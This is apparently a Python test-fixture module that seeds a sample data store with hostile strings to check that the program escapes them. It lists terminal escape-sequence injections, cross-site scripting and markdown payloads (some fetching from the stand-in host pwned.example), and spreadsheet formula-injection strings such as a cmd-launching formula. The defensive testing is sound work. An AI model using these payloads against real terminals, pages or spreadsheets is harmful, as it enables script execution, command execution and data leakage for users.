"""Texts that try to be more than text, and a home that is full of them. The people are invented."""

from __future__ import annotations

import json
import re
from itertools import cycle
from pathlib import Path
from typing import Any

from alstui.establishing.sample import install
from alstui.learning_set import LearningSet
from alstui.store.library import Library
from tests.kit.builders import DAY

ORDERS = {
    "cursor": "\x1b[666;666H",
    "colour": "\x1b[38;5;66;6m",
    "title": "\x1b]0;PWNED\x07",
    "title, ended otherwise": "\x1b]2;PWNED\x1b\\",
    "link": "\x1b]8;;https://pwned.example\x1b\\PWNED\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;UFdORUQ=\x07",
    "notification": "\x1b]777;notify;PWNED\x07",
    "device control": "\x1bPPWNED\x1b\\",
    "program's command": "\x1b_PWNED\x1b\\",
    "privacy message": "\x1b^PWNED\x1b\\",
    "start of string": "\x1bXPWNED\x1b\\",
    "reset": "\x1bcPWNED",
    "old codes": "\x1b(0PWNED\x1b#8",
    "eight bits": "\x9b666;66HPWNED\x9d0;PWNED\x9c\x90PWNED\x9c\x85",
    "bell, backspace, delete": "\x07PWNED\x08\x08\x7f",
    "shifts": "\x0ePWNED\x0f",
    "nothing": "\x00PWNED",
    "line ends": "PWN\r\nED\rPWNED\x0bPWNED\x0cPWNED\x1cPWNED",
    "more line ends": "PWNED\u2028PWNED\u2029",
    "turned round": "\u202eDENWP\u202c\u2066PWNED\u2069\u200e\u200f\u061c",
    "unseen": "P\u200bW\u2060N\xadE\ufeffD",
    "tags": "PWNED\U000e0001\U000e0070\U000e0077\U000e006e",
}
"""What a terminal would obey, or turn round, or not show, of every kind."""

_NEVER = re.compile(
    "[\0-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
"""What no answer holds; a line end is all that orders a terminal about in one."""

PAGES = (
    "<script>window.pwned()</script>",
    "<ScRiPt src=//pwned.example/x.js></sCrIpT>",
    "<img src=x onerror=pwned()>",
    "<img src='http://pwned.example/x.png'>",
    "![x](http://pwned.example/x.png)",
    "![x](javascript:pwned())",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt&#58;pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe src='http://pwned.example/'></iframe>",
    "<object data='http://pwned.example/'></object>",
    "<embed src='http://pwned.example/'>",
    "<link rel=stylesheet href='http://pwned.example/x.css'>",
    "<style>@import 'http://pwned.example/x.css';</style>",
    "</style><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "<meta http-equiv=refresh content='0;url=http://pwned.example/'>",
    "<base href='http://pwned.example/'>",
    "<form action='http://pwned.example/'><input name=x autofocus onfocus=pwned()>",
    "<a href='http://pwned.example/' ping='http://pwned.example/'>x</a>",
    "<video src='http://pwned.example/x.mp4' autoplay onerror=pwned()></video>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    '"><script>pwned()</script>',
    "' onmouseover='pwned()",
    "<!--><script>pwned()</script>-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned()>",
    "<a\nhref=javascript:pwned()>x</a>",
    "<http://pwned.example/auto>",
    "http://pwned.example/bare",
    "[x]: http://pwned.example/ref\n\n![x]",
    "```html\n<script>pwned()</script>\n```",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "{{constructor.constructor('pwned()')()}}",
    "<x style='background:url(http://pwned.example/x)'>",
)
"""What a page would run or fetch, were it more than text."""

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "x;=1+1", "x\t=1+1", "x|=1+1", '";=1+1', "＝1+1",
    "=HYPERLINK(\"http://pwned.example\")", "x;\"=1+1\"", "x; =1+1", "x,=1+1", "%0A=1+1", "x\n=1+1", "x;-1", "x;@a",
)  # fmt: skip
"""What a spreadsheet would reckon with, at the start of a cell, whatever stands between cells."""


def orders_in(text: str) -> str:
    """What a terminal would obey of an answer, or turn round, or not show; empty when it is text and nothing else."""
    return "".join(_NEVER.findall(text))


def a_home(home: Path, texts: tuple[str, ...], form: str = "{} {}") -> LearningSet:
    """The sample set with its meeting, and one of the texts in everything that somebody wrote: by another hand.

    `form` says where it stands: the words come first, and then the text.
    """
    library = Library(home)
    made = install(library, DAY)
    turn = cycle(texts)
    for path in sorted((home / made.id).iterdir()):
        if path.name == "set.json":
            path.write_text(json.dumps(_with(json.loads(path.read_text("utf-8")), turn, form)), "utf-8")
        elif path.suffix == ".jsonl":
            lines = path.read_text("utf-8").splitlines()
            path.write_text(
                "".join(json.dumps(_with(json.loads(line), turn, form)) + "\n" for line in lines), "utf-8"
            )
    return made


def _with(value: Any, turn: cycle[str], form: str) -> Any:
    """The same with a text beside whatever a person wrote; what the program wrote itself stays."""
    if isinstance(value, dict):
        return {key: _with(inside, turn, form) for key, inside in value.items()}
    if isinstance(value, list):
        return [_with(inside, turn, form) for inside in value]
    if isinstance(value, str) and re.search(r"[A-Z ]", value) and not re.match(r"\d{4}-\d{2}-\d{2}", value):
        return form.format(value, next(turn))
    return value
